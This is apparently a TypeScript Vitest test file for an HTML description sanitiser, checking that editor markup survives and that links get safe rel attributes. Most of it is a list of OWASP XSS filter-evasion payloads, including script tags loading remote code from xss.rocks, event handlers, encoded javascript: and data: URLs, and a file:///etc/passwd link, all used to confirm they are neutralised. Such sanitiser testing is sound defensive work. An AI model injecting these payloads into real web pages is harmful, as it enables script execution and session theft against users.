import { describe, expect, it } from 'vitest'
import { LINK_SCHEMES } from '../../shared/constants.ts'
import { expectSafe } from '../test/html-safety.ts'
import { sanitizeDescription } from './sanitize.ts'

const LINK = 'target="_blank" rel="noopener noreferrer nofollow"'

/** Asserts sanitised HTML can run no script and load nothing (see test/html-safety.ts). */
function expectHarmless(html: string): void {
  expectSafe('sanitised', html)
}

describe('sanitizeDescription: editor output', () => {
  const editorOutput: [string, string][] = [
    ['a paragraph', '<p>Plain text with &amp; and &lt;angle&gt; brackets</p>'],
    ['headings', '<h1>Title</h1><h2>Section</h2><h3>Subsection</h3>'],
    ['inline marks', '<p><strong>bold</strong>, <em>italic</em> and <code>code</code></p>'],
    ['a code block', '<pre><code>const a = 1 &lt; 2\nreturn a</code></pre>'],
    ['a bullet list', '<ul><li><p>one</p></li><li><p>two</p></li></ul>'],
    ['an ordered list', '<ol><li><p>first</p></li><li><p>second</p></li></ol>'],
    ['an ordered list with a start', '<ol start="3"><li><p>third</p></li></ol>'],
    ['a blockquote', '<blockquote><p>Quoted</p></blockquote>'],
    ['a link', `<p>See <a href="https://example.com/a?b=1&amp;c=2" ${LINK}>docs</a></p>`],
    [
      'nested marks and lists',
      '<ul><li><p><strong><em>both</em></strong></p><ol><li><p>inner</p></li></ol></li></ul>',
    ],
  ]

  it.each(editorOutput)('passes %s through unchanged', (_name, html) => {
    expect(sanitizeDescription(html)).toBe(html)
  })

  it('keeps line breaks and horizontal rules byte for byte, as a browser serialises them', () => {
    expect(sanitizeDescription('<p>a<br>b</p><hr>')).toBe('<p>a<br>b</p><hr>')
  })

  it('keeps non-breaking spaces as &nbsp;, as a browser serialises them', () => {
    expect(sanitizeDescription('<p>a&nbsp;b</p>')).toBe('<p>a&nbsp;b</p>')
    expect(sanitizeDescription('<p>a\u00a0b</p>')).toBe('<p>a&nbsp;b</p>')
  })

  it('turns <b> into <strong> and <i> into <em>', () => {
    expect(sanitizeDescription('<p><b>bold</b> <i>italic</i></p>')).toBe(
      '<p><strong>bold</strong> <em>italic</em></p>',
    )
  })

  it('makes every link open in a new tab without opener or referrer', () => {
    expect(
      sanitizeDescription('<a href="https://example.com" target="_self" rel="opener">x</a>'),
    ).toBe(`<a href="https://example.com" ${LINK}>x</a>`)
  })

  it('keeps a link title', () => {
    expect(sanitizeDescription('<a href="https://example.com" title="Docs">x</a>')).toBe(
      `<a href="https://example.com" title="Docs" ${LINK}>x</a>`,
    )
  })

  it('drops tags outside the subset but keeps their text', () => {
    expect(sanitizeDescription('<div><span class="x">kept</span></div>')).toBe('kept')
  })

  it('keeps a list start only when it is a number', () => {
    expect(sanitizeDescription('<ol start="javascript:alert(1)"><li>a</li></ol>')).toBe(
      '<ol><li>a</li></ol>',
    )
    expect(sanitizeDescription('<ol start="12" type="a"><li>a</li></ol>')).toBe(
      '<ol start="12"><li>a</li></ol>',
    )
  })

  it('answers an empty string for an empty description', () => {
    expect(sanitizeDescription('')).toBe('')
    expect(sanitizeDescription('   ')).toBe('')
  })
})

describe('sanitizeDescription: link schemes', () => {
  it.each([...LINK_SCHEMES])('keeps %s links', (scheme) => {
    const href = scheme === 'http' || scheme === 'https' ? `${scheme}://example.com` : `${scheme}:x`
    expect(sanitizeDescription(`<a href="${href}">x</a>`)).toBe(`<a href="${href}" ${LINK}>x</a>`)
  })

  it.each([
    'javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'file:///etc/passwd',
    'ssh://host',
    'about:blank',
    'blob:https://example.com/1',
    'ws://example.com',
    'jav\tascript:alert(1)',
    '/topics/relative',
  ])('drops the link %s but keeps its text', (href) => {
    expect(sanitizeDescription(`<p><a href="${href}">x</a></p>`)).toBe('<p>x</p>')
  })

  it('drops protocol-relative links, which would load another host', () => {
    expect(sanitizeDescription('<a href="//evil.example">x</a>')).toBe('x')
  })

  it('unwraps a refused link without disturbing the links around it', () => {
    expect(
      sanitizeDescription(
        '<p><a href="https://a.example">a</a><a href="javascript:x">b</a><a href="https://c.example">c</a></p>',
      ),
    ).toBe(
      `<p><a href="https://a.example" ${LINK}>a</a>b<a href="https://c.example" ${LINK}>c</a></p>`,
    )
  })

  it('drops an empty link with no href at all', () => {
    expect(sanitizeDescription('<p>a<a></a>b</p>')).toBe('<p>ab</p>')
  })
})

/**
 * Payloads from the OWASP XSS Filter Evasion Cheat Sheet, plus a few
 * mutation-XSS classics. Each must come out unable to run script.
 */
const XSS_PAYLOADS: string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<script>alert("XSS")</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">click</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">click</a>',
  '<a href="jav&#x0D;ascript:alert(\'XSS\');">click</a>',
  '<a href="java\0script:alert(1)">click</a>',
  '<a href="&#14;  javascript:alert(\'XSS\');">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="https://example.com" onmouseover="alert(1)" style="color:red">click</a>',
  '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  '<h1 onfocus="alert(1)" tabindex="1" autofocus>x</h1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
]

describe('sanitizeDescription: OWASP XSS filter evasion payloads', () => {
  it.each(XSS_PAYLOADS)('neutralises %s', (payload) => {
    expectHarmless(sanitizeDescription(payload))
  })

  it.each(XSS_PAYLOADS)('neutralises %s inside editor content', (payload) => {
    const html = sanitizeDescription(`<p>before</p>${payload}<p>after</p>`)
    expectHarmless(html)
    expect(html).toMatch(/^<p>before<\/p>/)
  })

  it('keeps the link text of a dropped javascript: href', () => {
    expect(sanitizeDescription('<a href="javascript:alert(1)">click</a>')).toBe('click')
  })

  it('drops event handlers and styles but keeps the element', () => {
    expect(sanitizeDescription('<p onclick="x()" style="color:red">Hi</p>')).toBe('<p>Hi</p>')
  })

  it('drops script content entirely rather than showing it as text', () => {
    expect(sanitizeDescription('<p>Hi</p><script>alert("XSS")</script>')).toBe('<p>Hi</p>')
  })

  it('escapes the stray angle bracket of <<SCRIPT>', () => {
    expect(sanitizeDescription('<<SCRIPT>alert("XSS");//<</SCRIPT>')).toBe('&lt;')
  })

  it('leaves harmless text that mentions javascript: alone', () => {
    expect(sanitizeDescription('<p>Never write javascript:alert(1) in a link</p>')).toBe(
      '<p>Never write javascript:alert(1) in a link</p>',
    )
  })
})

describe('expectHarmless (the check itself)', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x>',
    '<p onclick="x()">a</p>',
    '<p style="color:red">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JAVASCRIPT:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="ssh://host">a</a>',
    '<iframe src="https://example.com"></iframe>',
  ])('catches %s', (html) => {
    expect(() => expectHarmless(html)).toThrow()
  })
})
